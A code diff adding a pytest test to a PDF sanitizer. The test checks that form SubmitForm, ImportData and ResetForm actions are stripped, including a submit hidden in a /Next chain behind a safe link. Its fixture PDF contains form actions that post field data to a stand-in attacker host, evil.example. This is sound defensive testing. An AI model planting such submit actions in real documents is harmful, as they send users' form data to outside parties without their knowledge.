@@ -486,3 +486,44 @@ def test_open_actions_outside_the_catalog_are_removed(
     annots = [a.get_object() for a in r.pages[-1]["/Annots"]]
     kept = [a["/A"]["/URI"] for a in annots if "/A" in a and a["/A"].get("/S") == "/URI"]
     assert kept == ["https://example.org/kept"]  # the link itself still works
+
+
+FORM_ACTIONS = {
+    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R 11 0 R 12 0 R] >> >>",
+    2: rawpdf.pages_node("3 0 R", 1),
+    3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>",
+    4: rawpdf.content("a form that phones home"),
+    7: rawpdf.FONT,
+    # a button that posts the form, one that imports data, one that resets; a link whose safe
+    # URI action chains a submit behind it
+    10: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] "
+    "/P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/SUBMIT_URL) >> "
+    "/Flags 4 >> >>",
+    11: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (load) /Rect [72 550 200 580] "
+    "/P 3 0 R /AA << /U << /S /ImportData /F (IMPORT_FDF.fdf) >> >> >>",
+    12: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (kept) /Rect [72 500 300 530] "
+    "/P 3 0 R /AA << /Bl << /S /ResetForm /Fields [(name)] >> >> >>",
+    13: "<< /Type /Annot /Subtype /Link /Rect [72 450 200 470] /A << /S /URI "
+    "/URI (https://example.org/fine) /Next << /S /SubmitForm /F (https://evil.example/NEXT_SUBMIT) >> >> >>",
+}
+
+
+def test_form_submit_import_and_reset_actions_are_removed(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The README's "Safe" promise for forms: SubmitForm and ImportData (and ResetForm) go,
+    wherever they hang (/A, /AA, a /Next chain behind a kept URI); the fields themselves stay."""
+    src = rawpdf.write(tmp_path / "form.pdf", FORM_ACTIONS)
+    pdf = build(tmp_path, capsys, [("form", src, "")])
+    blob = all_bytes_decoded(pdf)
+    for marker in (b"SUBMIT_URL", b"IMPORT_FDF", b"NEXT_SUBMIT", b"evil.example"):
+        assert marker not in blob, marker
+    for name in (b"/SubmitForm", b"/ImportData", b"/ResetForm"):
+        assert not re.search(re.escape(name) + rb"[\s/<>\[\]()]", blob), name
+    r = PdfReader(pdf)
+    annots = [a.get_object() for a in r.pages[len(r.pages) - 1]["/Annots"]]
+    fields = {str(a["/T"]) for a in annots if "/T" in a}
+    assert fields == {"send", "load", "name"}, fields  # the fields stay, without their actions
+    assert "https://example.org/fine" in {u for page in lc.uri_links(r) for u in page}
+    code, out, err = run(["verify", str(pdf.with_suffix(".zip"))], capsys)
+    assert code == 0 and "no active content" in out, (out, err)
